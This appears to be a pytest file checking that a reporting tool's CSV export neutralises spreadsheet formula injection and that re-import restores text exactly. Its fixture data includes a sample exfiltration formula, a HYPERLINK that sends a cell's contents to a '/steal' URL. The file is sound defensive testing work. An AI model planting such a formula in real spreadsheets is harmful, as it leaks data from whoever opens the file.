"""`briefbot export` writes text cells a spreadsheet can't run (OWASP, CSV Injection: a leading apostrophe on a
cell starting with = + - @, tab or carriage return), and `briefbot import` of that export reads every text
back exactly as stored (issue 21: a note "=HYPERLINK(...)" went out raw, a formula when opened)."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from bot.app.cli import main
from data import db
from data.figures.periods import financial_year, snapshot
from data.figures.writes import ObservationInput, write_observations
from data.models import Observation
from data.spreadsheet import FORMULA_STARTS, from_spreadsheet, spreadsheet_safe
from data.store import prepare
from tests.conftest import BACKENDS

LEEDS = "E08000035"
SOURCE = {"source_document": "officers' returns", "source_locator": "March"}
FORMULA = '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"Click for the source")'
# Notes as officers and files have written them: formulas, and text a spreadsheet would take for one.
NOTES = {
    2010: FORMULA,
    2011: "+44 113 222 4444 (duty team)",
    2012: "- revised after the audit",
    2013: "@SUM(1+1)",
    2014: "\tindented by a paste",
    2015: "\rcarriage return first",
    2016: "'quoted by hand'",
    2017: "'=already escaped by someone",
    2018: "plain words, left alone",
}


def _url(engine: Engine) -> str:
    return engine.url.render_as_string(hide_password=False)


@pytest.fixture
def store(empty_engine: Engine) -> Engine:
    prepare(empty_engine, seed=False)
    figures = [
        ObservationInput("CPP_COUNT", LEEDS, snapshot(date(year, 3, 31)), 600.0, note=note, **SOURCE)
        for year, note in NOTES.items()
    ]
    # A budget that fell: a negative number is a number, and stays one.
    cut = ObservationInput("CSC_BUDGET_INCREASE", LEEDS, financial_year(2014), -1_500_000.0, **SOURCE)
    with Session(empty_engine) as session, session.begin():
        write_observations(session, [*figures, cut], actor="test", channel="cli", reason="test")
    return empty_engine


def _export(engine: Engine, path: Path) -> list[dict[str, str]]:
    result = CliRunner().invoke(main, ["--database-url", _url(engine), "export", "-o", str(path)])
    assert result.exit_code == 0, result.output
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _notes(engine: Engine) -> dict[int, str | None]:
    with Session(engine) as session:
        rows = session.execute(select(Observation.period_end, Observation.note).where(Observation.value == 600))
        return {end.year: note for end, note in rows.tuples()}


@pytest.mark.parametrize("store_url", BACKENDS, indirect=True)
def test_no_exported_text_cell_starts_a_formula(store: Engine, tmp_path: Path) -> None:
    rows = _export(store, tmp_path / "figures.csv")
    notes = {row["period_end"][:4]: row["note"] for row in rows if row["indicator"] == "CPP_COUNT"}
    assert notes["2010"] == "'" + FORMULA
    assert notes["2012"] == "'- revised after the audit" and notes["2014"] == "'\tindented by a paste"
    assert notes["2016"] == "''quoted by hand'" and notes["2018"] == "plain words, left alone"
    for row in rows:
        for column, cell in row.items():
            if column not in {"value", "numerator", "denominator"}:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
    budget = next(row for row in rows if row["indicator"] == "CSC_BUDGET_INCREASE")
    assert budget["value"] == "-1500000"  # a number, not text: a spreadsheet reads it as the number it is


@pytest.mark.parametrize("store_url", BACKENDS, indirect=True)
def test_the_export_imports_back_to_exactly_the_same_text(store: Engine, tmp_path: Path) -> None:
    path = tmp_path / "figures.csv"
    exported = _export(store, path)
    other = db.make_engine(f"sqlite:///{tmp_path / 'other.sqlite3'}")
    prepare(other, seed=False)
    runner = CliRunner()
    result = runner.invoke(main, ["--database-url", _url(other), "import", str(path)])
    assert result.exit_code == 0, result.output
    assert _notes(other) == NOTES  # the apostrophes the export added are gone, and only those
    assert _export(other, tmp_path / "again.csv") == exported
    # Into the store it came from: the same figures, so nothing changes.
    again = runner.invoke(main, ["--database-url", _url(store), "import", str(path)])
    assert again.exit_code == 0 and f"0 added, 0 corrected, {len(exported)} unchanged" in again.stdout, again.output


@pytest.mark.parametrize(
    "text", [*NOTES.values(), "", "'", "''", "'''=", "=", "-", "3 - 2", "it's fine", "'Smith", "\r\n=x"]
)
def test_escaping_reads_back_exactly(text: str) -> None:
    written = spreadsheet_safe(text)
    assert not written.startswith(FORMULA_STARTS)
    assert from_spreadsheet(written) == text


def test_a_hand_made_apostrophe_before_a_letter_is_kept() -> None:
    """Only the apostrophe the export adds (before a formula start or another apostrophe) is taken off."""
    assert from_spreadsheet("'Smith's count") == "'Smith's count"
    assert from_spreadsheet("'=1+1") == "=1+1"
